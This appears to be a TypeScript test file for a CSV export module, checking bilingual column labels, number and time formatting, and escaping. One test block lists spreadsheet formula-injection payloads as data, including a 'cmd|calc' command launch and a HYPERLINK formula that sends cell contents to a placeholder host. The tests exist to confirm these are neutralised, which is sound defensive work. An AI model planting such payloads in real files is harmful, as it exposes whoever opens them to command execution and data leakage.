import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { AgentRow } from '../endpoints/agent.js'
import { Bps, Cents, Id, Int, Json, Lines, Nullable, OneOf, SomeOf, Text, Time, YesNo } from '../fields/index.js'
import { businessTime } from '../fields/shown.js'
import { regionText } from '../regions/index.js'
import { fromCsv } from './read-csv.js'
import { rowFileName, csvHead, csvLines } from './csv.js'
import type { Language } from './text.js'

class Row {
  @Id(['编号', 'ID']) id!: number
  @Text({ max: 50 }, ['公司', 'Company']) company!: string
  @Lines({ max: 200 }, ['备注', 'Note']) note!: string
  @Int({ min: -9999, max: 9999 }, ['差额', 'Difference']) difference!: number
  @Bps({ min: 0, max: 10_000 }, ['分成', 'Share']) share!: number
  @Cents({ min: -9_999_999, max: 9_999_999 }, ['金额', 'Amount']) @Nullable() amount!: number | null
  @OneOf([1, 2], ['状态', 'Status'], { 1: ['启用', 'Enabled'], 2: ['停用', 'Disabled'] }) isFlag!: 1 | 2
  @SomeOf(['A', 'B'], 2, ['类型', 'Families'], { A: ['平台', 'Platform'], B: ['店铺', 'Shop'] }) families!: string[]
  @YesNo(['内置', 'Built in']) builtIn!: 0 | 1
  @Json(['修改后', 'After']) @Nullable() after!: unknown
  @Time(['时间', 'Time']) @Nullable() at!: string | null
}

const row = {
  id: 7,
  company: '安心',
  note: '',
  difference: -5,
  share: 1250,
  amount: 123_450,
  isFlag: 2,
  families: ['A', 'B'],
  builtIn: 1,
  after: { isFlag: 2, name: 'a"b' },
  at: '2026-11-20T17:30:05.999Z',
} satisfies Row
const file = (columns: string[], language: Language = 'zh') => ({ row: Row, columns, language })
const all = ['id', 'company', 'note', 'difference', 'share', 'isFlag', 'families', 'builtIn', 'after', 'at']
const lineOf = (columns: string[], more: object = {}) => csvLines(file(columns), [{ ...row, ...more }])

describe('a file for people', () => {
  test('begins with the byte order mark that makes Excel read UTF-8, then the labels', () => {
    expect(csvHead(file(['company', 'isFlag']))).toBe('\ufeff公司,状态\r\n')
    expect(csvHead(file(['isFlag', 'company'], 'en'))).toBe('\ufeffStatus,Company\r\n')
  })

  test('shows texts for codes, business time, percentages, and an empty cell for null', () => {
    expect(csvLines(file(all), [row])).toBe(
      '7,安心,,-5,12.5%,停用,平台、店铺,是,"{""isFlag"":2,""name"":""a\\""b""}",2026-11-21 01:30:05\r\n',
    )
    expect(csvLines(file(['isFlag', 'families', 'builtIn'], 'en'), [row])).toBe('Disabled,"Platform, Shop",Yes\r\n')
    expect(lineOf(['after', 'at'], { after: null, at: null })).toBe(',\r\n')
    expect(lineOf(['isFlag'], { isFlag: 3 })).toBe('3\r\n')
  })

  test("names regions in the file's language, and keeps those that are not on the list", () => {
    const asked = { row: AgentRow, columns: ['region'], regionText }
    const rows = [{ region: '广东 广州' }, { region: '珠三角一带' }]
    expect(csvLines({ ...asked, language: 'en' }, rows)).toBe('"Guangzhou, Guangdong"\r\n珠三角一带\r\n')
    expect(csvLines({ ...asked, language: 'zh' }, rows)).toBe('广东 广州\r\n珠三角一带\r\n')
  })

  test.each([
    [0, '0%'],
    [1, '0.01%'],
    [7, '0.07%'],
    [29, '0.29%'],
    [3500, '35%'],
    [10_000, '100%'],
  ])('%s basis points are %s', (share, shown) => expect(lineOf(['share'], { share })).toBe(`${shown}\r\n`))

  test('an amount is a plain number, which spreadsheets can add up', () => {
    expect(lineOf(['amount'])).toBe('1234.50\r\n')
    expect(lineOf(['amount'], { amount: -7 })).toBe('-0.07\r\n')
    expect(lineOf(['amount'], { amount: null })).toBe('\r\n')
  })

  test('a count is a plain number too', () => expect(lineOf(['difference'], { difference: -1234 })).toBe('-1234\r\n'))

  test('every basis point is shown exactly', () => {
    for (let share = 0; share <= 10_000; share++) {
      const shown = lineOf(['share'], { share }).slice(0, -3)
      expect(shown).toMatch(/^\d{1,3}(\.\d{1,2})?$/)
      expect(Math.round(Number(shown) * 100)).toBe(share)
    }
  })

  test('an instant is shown in the time of Asia/Shanghai; an invalid one is kept', () => {
    expect(businessTime('2026-12-31T16:00:00Z')).toBe('2027-01-01 00:00:00')
    expect(businessTime('soon')).toBe('soon')
  })

  test('is named after its list and day', () => {
    expect(rowFileName(['代理商列表', 'Agents'], '2026-11-21', 'zh', 'csv')).toBe('代理商列表-20261121.csv')
    expect(rowFileName(['代理商列表', 'Agents'], '2026-11-21', 'en', 'xlsx')).toBe('Agents-20261121.xlsx')
  })
})

describe('nothing in a file is executed', () => {
  const attacks = [
    '=1+1',
    '+1',
    '-1+cmd|calc',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\u3000=1',
    '\ufeff=1',
    '\u200b=1',
    '\u0000=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠a',
    '　＝1',
    '=HYPERLINK("http://x/?"&A1,"click")',
    '\ttext',
  ]
  test.each(attacks.map((text) => [text]))('%j becomes text', (text) => {
    expect(fromCsv(lineOf(['note'], { note: text }))).toEqual([[`'${text}`]])
    expect(fromCsv(lineOf(['after'], { after: text }))[0]?.[0]).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠]/u)
  })

  test.each([['a=b'], ['1-2'], ["'=1"], ['(=1)'], [''], [' a'], ['张店']])('%j stays as it is', (text) => {
    expect(fromCsv(lineOf(['note'], { note: text }))).toEqual([[text]])
  })

  test('a negative number stays a number', () => {
    expect(lineOf(['difference'])).toBe('-5\r\n')
  })
})

describe('whatever a cell contains', () => {
  const anything = fc.string({
    unit: fc.constantFrom(...Array.from('aZ0 ,;"\'\r\n\t=+-@＝张店é🛏\ufeff')),
    maxLength: 12,
  })

  test('is read back the same, except for the apostrophe, and stays in its cell', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(anything, anything), { maxLength: 5 }), (pairs) => {
        const rows = pairs.map(([company, note]) => ({ ...row, company, note }))
        const read = fromCsv(csvLines(file(['company', 'id', 'note']), rows))
        const shown = (text: string) => (/^([\t\r\n]|[\s\p{C}]*[=+\-@＝])/u.test(text) ? `'${text}` : text)
        expect(read).toEqual(pairs.map(([company, note]) => [shown(company), '7', shown(note)]))
      }),
    )
  })
})
